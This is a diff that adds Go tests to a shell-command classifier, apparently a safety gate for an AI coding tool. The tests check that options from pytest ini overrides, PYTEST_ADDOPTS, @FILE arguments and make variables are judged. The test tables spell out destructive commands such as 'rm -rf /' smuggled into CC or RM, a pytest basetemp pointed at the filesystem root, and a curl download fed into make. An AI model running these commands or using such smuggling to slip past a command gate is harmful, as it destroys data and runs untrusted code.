@@ -1,10 +1,15 @@
 package shellpolicy
 
 import (
+	"encoding/json"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"reflect"
+	"strings"
 	"testing"
+
+	"github.com/codewhale/codewhale/internal/testutil/e2e"
 )
 
 // A toolchain flag that names a program is that program's command line: go
@@ -130,4 +135,96 @@ func TestToolchainMakeOverridesAndPytestOptionsAreJudged(t *testing.T) {
 		{"go run golang.org/x/tools/cmd/stringer@latest -type=Kind", Ordinary, ""},
 		{"go run -exec 'rm -rf /' example.com/tool@v1.2.3", Blocked, "filesystem root"},
 	})
+}
+
+// pytest takes more options from three more places, and each is judged as
+// the same options on its command line: -o/--override-ini addopts=…,
+// PYTEST_ADDOPTS (split as shlex splits them), and @FILE, which pytest 8.2
+// and later expand one option per line wherever it stands. PYTEST_PLUGINS
+// loads modules as -p does, and make takes CC, RM … (never SHELL) from the
+// environment for its built-in rules, so their hard blocks carry over as a
+// makefile's do.
+func TestPytestAndMakeOptionsFromFilesAndTheEnvironmentAreJudged(t *testing.T) {
+	t.Parallel()
+	ws := t.TempDir()
+	for name, text := range map[string]string{
+		"ok.args":   "-q\n-x\n",
+		"wipe.args": "-q\n--basetemp\n/\n",
+		"plug.args": "-p\nxdist\n",
+	} {
+		if err := os.WriteFile(filepath.Join(ws, name), []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	env := testEnv()
+	env.Workspace = ws
+	for _, c := range []struct {
+		cmd    string
+		want   Class
+		reason string
+	}{
+		{"pytest -o addopts='-q -x'", Ordinary, ""},
+		{"pytest -o cache_dir=.cache", Ordinary, ""},
+		{"pytest -o addopts='--basetemp /'", Blocked, "filesystem root"},
+		{"pytest --override-ini='addopts=--basetemp ~'", Blocked, "filesystem root"},
+		{`pytest -oaddopts='-p "$X"'`, Ordinary, ""}, // no shell expands it: a module named $X
+		{`pytest -o addopts="-p $X"`, Explicit, "sets an ini value the classifier cannot see"},
+		{`pytest -o "$X"`, Explicit, "sets an ini value the classifier cannot see"},
+		{`pytest -o addopts='--basetemp "/"'`, Blocked, "filesystem root"},
+		{`pytest -o addopts='--basetemp \/'`, Blocked, "filesystem root"},
+		{"PYTEST_ADDOPTS='-q' pytest", Ordinary, ""},
+		{"PYTEST_ADDOPTS='--basetemp=/usr' pytest", Blocked, "filesystem root"},
+		{"export PYTEST_ADDOPTS='-o addopts=\"--basetemp /\"'; pytest", Blocked, "filesystem root"},
+		{`PYTEST_ADDOPTS="$X" pytest`, Explicit, "PYTEST_ADDOPTS= gives pytest options the classifier cannot see"},
+		{"PYTEST_PLUGINS=xdist pytest", Ordinary, ""},
+		{`PYTEST_PLUGINS="$X" pytest`, Explicit, "PYTEST_PLUGINS= names plugins the classifier cannot see"},
+		{"X=1; echo $X", ReadOnly, ""},
+		{"PYTEST_ADDOPTS=-q; echo hi", Ordinary, ""},
+		{"pytest @ok.args", Ordinary, ""},
+		{"pytest @plug.args", Ordinary, ""},
+		{"pytest @wipe.args", Blocked, "filesystem root"},
+		{"pytest -- @wipe.args", Blocked, "filesystem root"},
+		{`pytest "@$X"`, Explicit, "reads options from a file the classifier cannot see"},
+		{"printf -- '--basetemp\\n/\\n' > new.args; pytest @new.args", Blocked, "filesystem root"},
+		{"pytest @missing.args", Ordinary, ""},
+		{"CC=gcc make", Ordinary, ""},
+		{"CC='rm -rf /' make", Blocked, "filesystem root"},
+		{"export RM='rm -rf ~'; make clean", Blocked, "filesystem root"},
+		{"env CXX='rm -rf /usr' make", Blocked, "filesystem root"},
+		{`CC="$(curl -s https://example.com/cc)" make`, Blocked, "download"},
+		{"CC=gcc; echo $CC", ReadOnly, ""},
+	} {
+		v := env.Classify(c.cmd, ws)
+		if v.Class != c.want || !strings.Contains(v.Reason(), c.reason) {
+			t.Errorf("Classify(%q) = %v %q; want %v containing %q", c.cmd, v.Class, v.Reason(), c.want, c.reason)
+		}
+	}
+}
+
+// shlexSplit is Python's shlex.split, checked against python3 itself on the
+// forms addopts and PYTEST_ADDOPTS take.
+func TestShlexSplitAgreesWithPython(t *testing.T) {
+	t.Parallel()
+	py, err := exec.LookPath("python3")
+	if err != nil {
+		e2e.Missing(t, "python3")
+	}
+	for _, in := range []string{
+		`-q -x`, `--basetemp "/"`, `--basetemp \/`, `-p'x'y "a b" c\ d`, `"a\"b" "a\\b" "a\b" 'a\b'`,
+		`'' "" x`, "\t-q\n-x  ", `a"b c"d`, `--rootdir="$HOME/x"`, `#not a comment`, `é "ü x"`,
+		`"unclosed`, `trailing\`, `'open`,
+	} {
+		out, err := exec.Command(py, "-c", "import json,shlex,sys\ntry: print(json.dumps(shlex.split(sys.argv[1])))\nexcept ValueError: print('null')", in).Output()
+		if err != nil {
+			t.Fatalf("python3: %v", err)
+		}
+		var want []string
+		if err := json.Unmarshal(out, &want); err != nil {
+			t.Fatalf("python3 said %q: %v", out, err)
+		}
+		got, gerr := shlexSplit(in)
+		if (want == nil) != (gerr != nil) || want != nil && !reflect.DeepEqual(got, want) {
+			t.Errorf("shlexSplit(%q) = %q, %v; python3 %q", in, got, gerr, want)
+		}
+	}
 }
